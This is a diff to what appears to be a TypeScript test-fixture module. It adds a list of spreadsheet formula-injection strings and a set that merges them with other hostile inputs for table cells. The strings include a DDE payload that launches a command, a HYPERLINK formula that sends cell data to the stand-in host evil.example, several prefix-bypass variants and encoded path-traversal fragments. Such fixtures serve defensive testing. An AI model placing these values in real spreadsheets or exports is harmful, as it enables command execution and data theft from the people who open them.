@@ -16,6 +16,20 @@ export const hostileTexts: Readonly<Record<string, string>> = {
 /** @returns JSON: an object in an object and so on */
 const nested = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
 
+/** What a spreadsheet would begin to calculate, or to fetch. */
+export const formulas: readonly string[] = [
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("https://evil.example/?"&A1,"more")',
+  '@SUM(1+1)',
+  '+1+1',
+  '-2+3',
+  "'=1+1",
+  '  =1+1',
+  '\u200B=1+1',
+  '\t=1+1',
+  '＝1+1',
+];
+
 /** In place of any value. */
 export const wrongValues: readonly unknown[] = [
   null,
@@ -79,6 +93,20 @@ export const hostileAddressParts: readonly string[] = [
   '%2e%2e%2f',
   '%252e',
 ];
+
+/** All of it that is a text, whatever it is meant for: for cells of a table. */
+export const hostileCells: ReadonlySet<string> = new Set([
+  ...Object.values(hostileTexts),
+  ...formulas,
+  ...wrongValues.map((value) => JSON.stringify(value)),
+  ...hostileAddressParts.flatMap((part) => {
+    try {
+      return [decodeURIComponent(part)];
+    } catch {
+      return [part];
+    }
+  }),
+]);
 
 type Way = readonly (string | number)[];
 
